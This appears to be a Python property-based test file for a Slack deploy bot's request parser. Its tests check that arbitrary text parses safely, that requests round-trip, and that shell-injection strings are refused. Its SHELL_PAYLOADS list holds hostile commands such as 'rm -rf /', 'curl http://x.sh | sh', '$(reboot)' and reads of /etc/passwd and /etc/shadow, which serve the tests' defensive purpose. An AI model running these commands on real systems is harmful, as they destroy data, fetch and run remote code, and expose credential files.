"""Properties of the request parser over text nobody wrote by hand.

- Any text at all: the parser never raises, and a request it returns holds only inventory names and numbers
  inside their bounds (GPU indices inside the host's GPUs).
- Shell syntax inserted anywhere, into any text: never a request.
- Any request the parser can return, written out by request_text and dressed the way Slack users dress it
  (case, mentions, code markup, politeness), reads back as the same request.
"""

from __future__ import annotations

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.inventory import Inventory
from bot.models import DeployRequest, ParseError
from bot.request import MAX_REQUEST_CHARS, QUANTIZATION_METHODS, parse_request, request_text
from tests.corpus_score import FLEET2
from tests.test_request import FLEET

#: The second fleet: a host called gpu3, hosts written with any dash, folders named by one distinctive word.
FLEET_2 = Inventory.from_corpus(FLEET2)

# deadline=None: how long an example takes is measured in bench/, never asserted.
PROPERTY = settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])

MODELS = FLEET.model_names()
HOSTS = list(FLEET.hosts)

SHELL_PAYLOADS = [
    "; rm -rf /",
    " && reboot",
    "&amp;&amp; curl http://x.sh | sh",
    "| sh",
    " || true",
    "$(reboot)",
    "${IFS}",
    "$HOME",
    "`reboot`",
    "`rm -rf ~`",
    "``reboot`",
    "../../etc/passwd",
    "> /etc/passwd",
    "<(cat /etc/shadow)",
    "\nrm -rf /",
    "\ncurl http://evil.sh",
    "; shutdown -h now",
    "2>&1",
    "~; rm -rf /~",
    " & reboot",
    " & curl http://x",
]

# Words the parser knows and words near them, so random sentences reach its deeper paths.
VOCABULARY = (
    MODELS
    + HOSTS
    + ["qwen", "llama", "gemma", "mistral", "deepseek", "glm", "next", "small", "air", "instruct", "it", "mixtral"]
    + ["3.6", "3", "3.1", "27b", "8b", "70b", "a3b", "v3", "ct", "129", "ct-129", "h100", "a6000", "4090s", "box"]
    + ["start", "strat", "launch", "deploy", "stop", "kill", "shut", "down", "spin", "up", "restart", "bounce"]
    + ["status", "what's", "running", "logs", "tail", "is", "why", "did", "crash", "don't", "not", "please"]
    + ["on", "to", "at", "@", "the", "with", "without", "no", "using", "via", "and", "everything", "all", "both"]
    + ["mtp", "nextn", "speculative", "decoding", "eagle", "vllm", "sglang", "tp", "tp=4", "tensor", "parallel"]
    + ["port", "8001", "80", "gpu", "gpus", "0-3", "4,5", "context", "32k", "0k", "ctx", "tokens", "fp8", "awq"]
    + ["quantization", "kv", "cache", "4bit", "same", "as", "before", "like", "last", "time", "again", "--tp"]
    + ["--trust-remote-code", "*", "_", "~", "`", "<@U1>", "<http://ct129|ct129>", "?", "!", ",", ":", "\n", "0"]
)


def _assert_holds_only_inventory_values(result: DeployRequest | ParseError, fleet: Inventory = FLEET) -> None:
    assert isinstance(result, (DeployRequest, ParseError))
    if isinstance(result, ParseError):
        assert result.message
        return
    if result.host is not None:
        assert result.host in fleet.hosts
    if result.model is not None:
        assert result.model in fleet.model_names()
        if result.host is not None:
            assert result.model in fleet.hosts[result.host].models
    if result.action in ("start", "restart") and result.model is None:
        assert result.reuse_last or (result.action == "restart" and result.host is not None)
    assert result.tp is None or 1 <= result.tp <= 64
    assert result.port is None or 1024 <= result.port <= 65535
    assert result.context_length is None or 1 <= result.context_length <= 10_000_000
    assert result.quantization is None or result.quantization in QUANTIZATION_METHODS
    if result.gpus is not None:
        count = fleet.hosts[result.host].gpu_count if result.host else None
        assert result.gpus and result.gpus == sorted(set(result.gpus))
        assert all(0 <= g < (count or 64) for g in result.gpus)
        assert result.tp is None or result.tp == len(result.gpus)


@PROPERTY
@given(st.text(max_size=400))
def test_any_text_never_raises_and_holds_only_inventory_values(text: str) -> None:
    _assert_holds_only_inventory_values(parse_request(text, FLEET))


@PROPERTY
@given(st.lists(st.sampled_from(VOCABULARY), max_size=16), st.lists(st.sampled_from([" ", "", "-", ", ", "\n"]), min_size=16, max_size=16))
def test_sentences_of_known_words_hold_only_inventory_values(words: list[str], separators: list[str]) -> None:
    text = "".join(word + separator for word, separator in zip(words, separators))
    _assert_holds_only_inventory_values(parse_request(text, FLEET))


@PROPERTY
@given(st.text(max_size=300), st.sampled_from(SHELL_PAYLOADS), st.data())
def test_shell_syntax_anywhere_in_any_text_is_never_a_request(text: str, payload: str, data: st.DataObject) -> None:
    at = data.draw(st.integers(0, len(text)))
    result = parse_request(text[:at] + payload + text[at:], FLEET)
    assert isinstance(result, ParseError)
    if len(text) + len(payload) <= MAX_REQUEST_CHARS:
        assert result.kind == "unsafe_input", result


FLEET_2_WORDS = (
    FLEET_2.model_names() + list(FLEET_2.hosts)
    + ["math", "vision", "vl", "distill", "coder", "mini", "nemo", "r1", "gpu3", "gpu 3", "node a", "rtx\u2014box"]
    + ["put", "host", "load", "swap", "switch", "move", "from", "drafter", "dflash", "draft", "flash", "attention"]
    + ["who's", "using", "any", "free", "\u2212", "\u00a0", "\u2011", "awq", "everywhere", "next", "week"]
)  # fmt: skip


@PROPERTY
@given(st.lists(st.sampled_from(VOCABULARY + FLEET_2_WORDS), max_size=16),
       st.lists(st.sampled_from([" ", "", "-", ", ", "\n", ". "]), min_size=16, max_size=16))  # fmt: skip
def test_sentences_on_the_second_fleet_hold_only_its_values(words: list[str], separators: list[str]) -> None:
    text = "".join(word + separator for word, separator in zip(words, separators))
    _assert_holds_only_inventory_values(parse_request(text, FLEET_2), FLEET_2)


# ------------------------------------------------------------------------------------------ requests it can return


@st.composite
def requests(draw: st.DrawFn, fleet: Inventory = FLEET) -> DeployRequest:
    """Any request the parser may return against a fleet."""
    hosts, models = list(fleet.hosts), fleet.model_names()
    action = draw(st.sampled_from(["start", "stop", "restart", "status", "logs"]))
    host = draw(st.none() | st.sampled_from(hosts))
    pool = fleet.hosts[host].models if host else models
    model = draw(st.none() | st.sampled_from(pool))
    reuse_last = action in ("start", "restart") and draw(st.booleans())
    if model is None and action == "start":
        reuse_last = True
    if model is None and action in ("stop", "restart") and not reuse_last and host is None:
        host = draw(st.sampled_from(hosts))  # "stop everything" names its host
    count = (fleet.hosts[host].gpu_count if host else None) or 64
    gpus = draw(st.none() | st.lists(st.integers(0, count - 1), min_size=1, max_size=8, unique=True).map(sorted))
    tp = len(gpus) if gpus and draw(st.booleans()) else None if gpus else draw(st.none() | st.integers(1, 64))
    return DeployRequest(
        action=action,
        model=model,
        host=host,
        engine=draw(st.none() | st.sampled_from(["sglang", "vllm"])),
        speculative=draw(st.none() | st.sampled_from(["mtp", "none"])),
        tp=tp,
        port=draw(st.none() | st.integers(1024, 65535)),
        quantization=draw(st.none() | st.sampled_from(sorted(QUANTIZATION_METHODS))),
        context_length=draw(st.none() | st.integers(1, 10_000_000)),
        gpus=gpus,
        reuse_last=reuse_last,
    )


@st.composite
def dressed(draw: st.DrawFn, request: DeployRequest) -> str:
    """request_text as a Slack user might send it: case, markup around names, a mention, politeness."""
    text = request_text(request)
    for name in (request.model, request.host):
        if name:
            wrap = draw(st.sampled_from(["{}", "`{}`", "*{}*", "_{}_"]))
            text = text.replace(name, wrap.format(name), 1)
    text = draw(st.sampled_from([str.lower, str.upper, lambda s: s]))(text)
    prefix = draw(st.sampled_from(["", "please ", "<@U0123ABCD> ", "hey deploybot, could you ", "/deploy "]))
    suffix = draw(st.sampled_from(["", " thanks", " pls!", "?", " :rocket:", "\n"]))
    return prefix + text + suffix


@PROPERTY
@given(st.data())
def test_a_request_written_out_and_dressed_reads_back_the_same(data: st.DataObject) -> None:
    request = data.draw(requests())
    text = data.draw(dressed(request))
    assert parse_request(text, FLEET) == request, text


@PROPERTY
@given(st.data())
def test_a_request_on_the_second_fleet_written_out_and_dressed_reads_back_the_same(data: st.DataObject) -> None:
    request = data.draw(requests(FLEET_2))
    text = data.draw(dressed(request))
    assert parse_request(text, FLEET_2) == request, text


@PROPERTY
@given(st.data(), st.sampled_from(SHELL_PAYLOADS))
def test_shell_syntax_anywhere_in_a_valid_request_is_refused(data: st.DataObject, payload: str) -> None:
    text = data.draw(dressed(data.draw(requests())))
    at = data.draw(st.integers(0, len(text)))
    result = parse_request(text[:at] + payload + text[at:], FLEET)
    assert isinstance(result, ParseError) and result.kind == "unsafe_input", (text[:at] + payload + text[at:], result)
